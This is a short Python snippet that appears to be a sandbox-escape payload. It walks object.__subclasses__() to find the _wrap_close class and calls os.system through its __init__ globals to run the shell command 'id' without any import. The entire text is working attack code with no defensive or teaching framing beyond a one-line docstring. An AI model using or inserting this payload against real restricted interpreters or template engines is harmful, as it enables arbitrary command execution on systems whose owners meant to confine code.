"""Walks object.__subclasses__() to find a class whose globals hold os, with no import."""
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["system"]("id")
